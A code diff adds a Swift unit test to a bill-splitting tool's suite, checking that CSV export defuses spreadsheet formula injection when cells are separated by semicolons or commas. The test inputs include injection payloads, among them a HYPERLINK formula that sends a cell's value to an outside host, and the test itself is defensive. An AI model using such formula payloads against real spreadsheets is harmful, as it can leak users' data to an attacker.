@@ -49,6 +49,24 @@ struct OddBillTests {
         #expect(raw.contains(name.replacing("\"", with: "\"\"")))
     }
 
+    /// German and French spreadsheets separate by semicolons, and know no quotes but those at a cell's beginning.
+    @Test(
+        "a name is no formula where a spreadsheet separates by semicolons or commas, either",
+        arguments: [
+            "eu;=HYPERLINK(\"http://example.com/?\"&A1);x", "a;+1", "a; -2+3", "a;;@SUM(1)", "a,=1", "a;\t=1", ";=1", "a;\"=1\"",
+            "a;\"\"=1",
+            "a;\u{FF1D}1", "a;b;c;=1", "\"a\";=1",
+        ],
+        [";", ","] as [Character])
+    func separators(name: String, separator: Character) throws {
+        let text = try cost([("10", name), ("20", "S3")], "--format", "csv").output
+        for cell in text.split(whereSeparator: { $0 == separator || $0.isNewline }) {
+            let start = cell.drop { $0 == "\"" || $0 == " " }.unicodeScalars.first
+            #expect(start.map { !"=+-@\u{FF1D}".unicodeScalars.contains($0) } ?? true, "\(cell)")
+        }
+        #expect(try cost([("10", name)], "--format", "csv", "--raw-cells").output.contains(name.replacing("\"", with: "\"\"")))
+    }
+
     @Test(
         "a sum below zero, or of nothing, is exact, and nobody has a share of it",
         arguments: [
